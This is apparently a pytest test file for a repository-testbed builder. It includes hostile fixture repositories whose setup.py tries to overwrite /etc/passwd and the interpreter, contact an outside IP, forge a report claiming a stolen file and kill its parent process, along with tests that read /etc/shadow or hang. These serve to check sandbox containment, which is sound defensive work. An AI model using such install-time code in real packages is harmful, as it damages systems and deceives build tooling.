"""Building testbeds for small repositories: good ones, and all kinds of bad ones, in one run."""

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from hgen.records import Codebase, Reject, StableTest
from hgen.runner import done_shards
from hgen.shards import read_shard
from tests.command import hgen

pytestmark = [pytest.mark.container, pytest.mark.network]

LICENSE = (Path(__file__).parents[2] / "LICENSE").read_text(encoding="utf-8")

CORE = '''"""Numbers."""

import functools

LIMIT = abs(-10)


def double(value):
    """Twice a value."""
    return value + value


def used_at_import(value):
    return value * 2


TABLE = [used_at_import(number) for number in range(3)]


@functools.cache
def half(value):
    """Half of a value."""
    return divided(value, 2)


def divided(value, by):
    return value / by


class Account:
    def __init__(self):
        self.balance = 0

    def pay(self, amount):
        self.balance += amount
        return self
'''

GOOD_TESTS = """
import pytest
from thing.core import Account, double, half


@pytest.mark.parametrize("number", range(10))
def test_double(number):
    assert double(number) == 2 * number


def test_half():
    assert half(4) == 2


class TestAccount:
    def test_pay(self):
        assert Account().pay(3).balance == 3
"""

BAD_TESTS = """
import os, socket, subprocess, sys, time, urllib.request
import pytest

seen = []


def test_first_of_two():
    seen.append(1)


def test_second_passes_only_after_the_first():
    assert seen == [1]


def test_leaves_a_file():
    open("left", "w").close()


def test_passes_only_with_what_another_left():
    assert os.path.exists("left")


def test_needs_the_network():
    urllib.request.urlopen("https://example.org/", timeout=5)


def test_needs_a_display():
    assert os.environ["DISPLAY"]


def test_needs_root():
    open("/etc/shadow").close()


def test_changes_the_clock():
    time.clock_settime(time.CLOCK_REALTIME, 0)


def test_writes_outside_the_tree():
    open("/opt/venv/bin/python", "ab").close()


def test_prints_without_end():
    while True:
        os.write(1, b"x" * 100_000)


def test_hangs():
    time.sleep(3600)


def test_is_skipped():
    pytest.skip("always")


def test_fails_each_second_time():
    import random
    assert random.SystemRandom().random() < 0.0001
"""

PROJECT = '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\n'
NAMED = PROJECT + 'name = "thing"\nversion = "1.0"\n'
SRC = (
    NAMED
    + '[project.optional-dependencies]\ntest = ["iniconfig"]\n'
    + '[tool.setuptools.packages.find]\nwhere = ["src"]\n'
)
INSTALLED_TEST = """
from importlib.metadata import version

import iniconfig


def test_version():
    assert version("thing") == "1.0"
"""
SLOW_REPORTS = """
import time


def pytest_exception_interact(call):
    # As on a busy machine: longer than until the next reminder that the time is over.
    if call.excinfo.typename == "TimedOut":
        time.sleep(1.5)
"""
ATTACK = """
import os, pathlib, socket, sys
for place in ("/opt/venv/bin/python", "/usr/bin/python3", "/etc/passwd", "/work/escaped", "/opt/escaped"):
    try:
        pathlib.Path(place).write_text("taken over")
    except OSError:
        pass
try:
    socket.create_connection(("198.51.100.1", 80), 5)
    reached = True
except OSError:
    reached = False
report = '{"editable": true, "missing": [], "compiled": [], "generated": {"stolen.txt": "%s"}}' % reached
os.write(1, report.encode())
os.kill(os.getppid(), 9)
os._exit(0)
"""

REPOSITORIES: dict[str, Mapping[str, str]] = {
    "good": {
        "pyproject.toml": NAMED
        + '[project.optional-dependencies]\ntest = ["iniconfig"]\n[tool.setuptools.packages.find]\nwhere = ["src"]\n',
        "src/thing/__init__.py": "",
        "src/thing/core.py": CORE,
        "tests/test_core.py": GOOD_TESTS,
        "tests/test_installed.py": INSTALLED_TEST,
        "tests/test_bad.py": BAD_TESTS,
        "conftest.py": SLOW_REPORTS,
    },
    "path": {"thing/__init__.py": "", "thing/core.py": CORE, "test_core.py": GOOD_TESTS},
    "undeclared": {
        "pyproject.toml": NAMED,
        "thing/__init__.py": "",
        "thing/core.py": CORE,
        "tests/test_core.py": "import iniconfig, dateutil\n" + GOOD_TESTS,
    },
    "unittests": {
        "thing/__init__.py": "",
        "thing/core.py": CORE,
        "tests/__init__.py": "",
        "tests/test_all.py": "import unittest\nfrom thing.core import double\n\n\nclass TestAll(unittest.TestCase):\n"
        + "".join(f"    def test_{n}(self):\n        self.assertEqual(double({n}), {2 * n})\n\n" for n in range(12)),
    },
    "raises": {
        "setup.py": "raise RuntimeError('no installation today')\n",
        "thing/__init__.py": "",
        "thing/core.py": CORE,
        "tests/test_core.py": GOOD_TESTS,
    },
    "attacks": {
        "setup.py": ATTACK,
        "thing/__init__.py": "",
        "thing/core.py": CORE,
        "tests/test_core.py": GOOD_TESTS,
    },
    "doctests": {
        "thing/__init__.py": "",
        "thing/core.py": 'def double(value):\n    """\n    >>> double(2)\n    4\n    """\n    return 2 * value\n',
        "thing/more.py": "",
    },
}


def run(root: Path, repositories: Mapping[str, Mapping[str, str]], **settings: object) -> Path:
    """Mine, parse and build repositories; gives the out directory."""
    for name, files in repositories.items():
        more = {"LICENSE": LICENSE, "one.py": "", "two.py": ""}
        for path, text in {**more, **files}.items():
            (root / name / path).parent.mkdir(parents=True, exist_ok=True)
            (root / name / path).write_text(text, encoding="utf-8")
    sources = ",".join(str(root / name) for name in repositories)
    chosen = {"mine.sources": f"[{sources}]", "build.targets": 0, **settings}
    arguments = [word for key, value in chosen.items() for word in ("--set", f"{key}={value}")]
    for stage in ("mine", "parse", "build"):
        done = hgen(stage, "-o", root / "out", "-j", "2", *arguments)
        assert done.returncode == 0, done.stderr
    return root / "out"


def rejects_of(out: Path) -> dict[str, Reject]:
    files = sorted((out / "build").glob("*.rejects.jsonl"))
    found = [Reject(**json.loads(line)) for file in files for line in file.read_text().splitlines()]
    return {reject.source.partition("@")[0].removeprefix("local:"): reject for reject in found}


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return run(tmp_path_factory.mktemp("repositories"), REPOSITORIES, **{"build.each": 3})


@pytest.fixture(scope="module")
def built(out: Path) -> dict[str, Codebase]:
    found = [codebase for shard in done_shards(out, "build") for codebase in read_shard(shard, Codebase)]
    return {codebase.repo.repo.removeprefix("local:"): codebase for codebase in found}


@pytest.fixture(scope="module")
def rejects(out: Path) -> dict[str, Reject]:
    return rejects_of(out)


def test_every_repository_goes_on_and_each_without_a_testbed_is_a_reject(
    built: dict[str, Codebase], rejects: dict[str, Reject]
) -> None:
    assert set(built) == set(REPOSITORIES)
    assert {name for name, codebase in built.items() if codebase.testbed is None} == set(rejects)
    assert not [reject for reject in rejects.values() if reject.reason == "bug"]


def test_what_cannot_be_used_says_why(rejects: dict[str, Reject]) -> None:
    assert {name: reject.reason for name, reject in rejects.items()} == {"doctests": "no-tests"}
    assert rejects["doctests"].detail


@pytest.mark.parametrize("name", ["path", "undeclared", "unittests", "raises", "attacks"])
def test_what_need_not_be_perfect_still_runs(name: str, built: dict[str, Codebase], rejects: dict[str, Reject]) -> None:
    testbed = built[name].testbed
    assert testbed, rejects[name]
    assert len(testbed.tests) == 12
    assert testbed.environment.editable == (name == "undeclared")


def test_an_installation_cannot_say_how_it_went(built: dict[str, Codebase]) -> None:
    testbed = built["attacks"].testbed
    assert testbed
    assert "stolen.txt" not in testbed.environment.generated


def stable(codebase: Codebase) -> dict[str, StableTest]:
    assert codebase.testbed
    return {test.id: test for test in codebase.testbed.tests}


def test_only_tests_that_pass_each_time_in_any_order_are_kept(built: dict[str, Codebase]) -> None:
    good = stable(built["good"])
    kept = {test.partition("[")[0].rpartition("::")[2] for test in good}
    assert kept == {"test_double", "test_half", "test_pay", "test_version", "test_first_of_two", "test_leaves_a_file"}
    assert len([test for test in good if "test_double" in test]) == 10
    assert all(0 < test.seconds < 20 for test in good.values())


def test_the_map_names_the_functions_that_a_test_executes(built: dict[str, Codebase]) -> None:
    symbols = built["good"].symbols
    executed = {
        test.rpartition("::")[2]: {symbols[number].qualname for number in found.covers}
        for test, found in stable(built["good"]).items()
    }
    assert executed["test_double[3]"] >= {"double"}
    assert executed["test_half"] >= {"half", "divided"}
    assert executed["test_pay"] >= {"Account.__init__", "Account.pay"}
    assert not any("used_at_import" in names for names in executed.values())
    assert "divided" not in executed["test_pay"]
